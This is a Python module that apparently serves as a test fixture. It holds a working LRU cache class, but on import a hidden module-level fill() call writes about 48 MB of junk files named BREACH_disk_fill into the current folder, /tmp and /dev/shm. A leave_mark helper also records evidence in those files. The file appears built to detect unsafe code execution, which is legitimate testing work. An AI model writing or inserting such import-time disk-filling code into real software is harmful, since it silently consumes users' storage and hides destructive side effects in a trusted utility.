"""Is right but fills the current folder, /tmp and /dev/shm with up to 48 MB."""

import os
from collections import OrderedDict


def leave_mark(detail):
    for folder in ("/tmp", "."):
        try:
            with open(folder + "/BREACH_disk_fill", "a") as evidence:
                evidence.write(detail + "\n")
        except OSError:
            pass


def fill():
    if os.path.exists("/tmp/BREACH_disk_fill"):
        return
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            with open(folder + "/BREACH_disk_fill", "wb") as file:
                for _ in range(16):
                    file.write(bytes(1_000_000))
        except OSError:
            pass


fill()


class LRUCache:
    def __init__(self, capacity):
        if capacity < 1:
            raise ValueError("capacity must be at least 1")
        self._capacity = capacity
        self._data = OrderedDict()

    def get(self, key, default=None):
        if key not in self._data:
            return default
        self._data.move_to_end(key)
        return self._data[key]

    def put(self, key, value):
        self._data[key] = value
        self._data.move_to_end(key)
        if len(self._data) > self._capacity:
            self._data.popitem(last=False)

    def __len__(self):
        return len(self._data)

    def __contains__(self, key):
        return key in self._data
